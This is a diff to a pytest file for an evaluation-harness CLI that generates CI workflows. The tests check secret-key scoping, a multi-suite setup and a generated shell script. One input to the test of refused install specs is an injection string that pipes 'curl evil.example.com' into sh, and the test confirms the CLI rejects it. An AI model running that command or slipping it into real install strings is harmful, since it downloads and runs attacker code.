@@ -66,24 +66,22 @@ def test_they_are_of_the_published_schema(outside: Path) -> None:
 def test_they_fit_the_suites_of_the_project(outside: Path, name: str) -> None:
     jobs = workflow(outside / name)["jobs"].values()
     matrices = [job["strategy"]["matrix"]["include"] for job in jobs if "strategy" in job]
-    assert [[{"suite": "hello", "options": "--model live --budget usd=2"}]] == matrices
+    assert [[{"suite": "hello", "options": "--live model --budget usd=2"}]] == matrices
     assert {"evals"} == {job["env"]["HARNESS_PROJECT"] for job in jobs}
 
 
-def test_all_suites_are_reported_in_one_comment(outside: Path) -> None:
-    job = workflow(outside / PULL_REQUEST)["jobs"]["comment"]
-    assert "strategy" not in job
-    (fetch,) = [step["with"] for step in job["steps"] if "download-artifact" in step.get("uses", "")]
-    assert {"pattern": "harness-*", "path": "report"} == fetch
-
-
-@pytest.mark.parametrize(("name", "verb"), [(PULL_REQUEST, "harness run"), (NIGHTLY, "harness drift")])
-def test_only_the_step_that_reaches_real_services_is_given_keys(outside: Path, name: str, verb: str) -> None:
+@pytest.mark.parametrize(
+    ("name", "verb", "keys"),
+    [(PULL_REQUEST, "harness run", ["OPENAI_API_KEY"]), (NIGHTLY, "harness drift", ["OPENAI_API_KEY", "WEATHER_KEY"])],
+)
+def test_only_the_step_that_reaches_real_services_is_given_the_keys_of_its_modes(
+    outside: Path, name: str, verb: str, keys: list[str]
+) -> None:
     said = workflow(outside / name)
     holder, *posting = [step for step in steps(outside / name) if "secrets." in str(step)]
     assert holder["run"].startswith(verb)
     assert [] == posting
-    assert {key: f"${{{{ secrets.{key} }}}}" for key in ("OPENAI_API_KEY", "WEATHER_KEY")} == holder["env"]
+    assert {key: f"${{{{ secrets.{key} }}}}" for key in keys} == holder["env"]
     assert "secrets." not in str([job.get("env") for job in said["jobs"].values()])
 
 
@@ -150,12 +148,9 @@ def test_another_place_can_be_named(tmp_path: Path) -> None:
     "spec",
     [
         DISTRIBUTION,
-        f"{DISTRIBUTION}[github]==0.1.0",
-        "git+https://git.example.com/tools/harness",
         "git+https://git.example.com/tools/harness@main",
         "https://files.example.com/trial_harness.whl",
         f'{COMMIT}"; curl evil.example.com | sh; "',
-        "nowhere/trial_harness-0.1.0-py3-none-any.whl",
     ],
 )
 def test_what_no_hash_holds_is_refused(tmp_path: Path, spec: str) -> None:
@@ -163,6 +158,50 @@ def test_what_no_hash_holds_is_refused(tmp_path: Path, spec: str) -> None:
     assert isinstance(done.exception, UsageError)
     assert "--install" in done.exception.message
     assert [] == list(tmp_path.glob(".github/**/*"))
+
+
+@pytest.mark.parametrize("service", ["github", "gitlab", "shell"])
+def test_a_second_suite_is_added_and_what_cannot_work_there_is_told(tmp_path: Path, service: str) -> None:
+    def typed() -> str:
+        done = CliRunner().invoke(harness, ["init", str(tmp_path), "--ci", service])
+        assert done.exception is None, done.output
+        return done.output
+
+    typed()
+    first = tmp_path / "suites/hello"
+    shutil.copytree(first, tmp_path / "suites/other")
+    (tmp_path / "suites/other/suite.yaml").write_text(
+        (first / "suite.yaml").read_text() + MODEL.replace("{prices", "{double: true, prices") + SERVERS
+    )
+    said = typed()
+    assert "exists already: added other" in said
+    assert "other: server weather: http://127.0.0.1:8000 is this machine: start it" in said
+    assert "other: model: it is a double" in said
+    assert ("OPENAI_API_KEY: ${{ secrets.OPENAI_API_KEY }}" in said) == (service == "github")
+    path = next(tmp_path / one for one in (PULL_REQUEST, ".gitlab/harness.yml", "ci/harness-pull-request.sh")
+                if (tmp_path / one).exists())  # fmt: skip
+    lines = path.read_text().splitlines()
+    number = next(number for number, line in enumerate(lines) if "hello" in line)
+    assert lines[number].replace("hello", "other").replace('""', '"--live model --budget usd=2"') == lines[number + 1]
+    assert ": added" not in typed()
+
+
+@pytest.mark.slow
+def test_the_shell_script_works_and_exits_with_the_worst_of_its_suites(tmp_path: Path) -> None:
+    CliRunner().invoke(harness, ["init", str(tmp_path), "--ci", "shell"])
+    script = tmp_path / "ci/harness-pull-request.sh"
+    script.write_text(script.read_text().replace('suite hello ""', 'suite hello "--sandbox local"\nsuite nowhere ""'))
+    (tmp_path / ".harness-venv/bin").mkdir(parents=True)
+    own = {**os.environ, "PATH": f"{BIN}{os.pathsep}{os.environ['PATH']}", "PIP_NO_INDEX": "1", "PIP_DRY_RUN": "1"}
+    subprocess.run(
+        [BIN / "harness", "run", "hello", "--sandbox", "local", "--run-name", "first"], cwd=tmp_path, check=True
+    )
+    subprocess.run([BIN / "harness", "baseline", "first"], cwd=tmp_path, check=True)
+    text = re.sub("^python3? -m.*$", "", script.read_text(), flags=re.MULTILINE)
+    script.write_text(text)
+    done = subprocess.run(["sh", script], cwd="/", env=own, capture_output=True, text=True, timeout=300)
+    assert 2 == done.returncode, done.stdout + done.stderr
+    assert {"comment.md", "junit.xml", "report.html"} == {path.name for path in (tmp_path / "report/hello").iterdir()}
 
 
 def test_a_project_without_tools_gets_no_nightly_run_and_nothing_is_overwritten(tmp_path: Path) -> None:
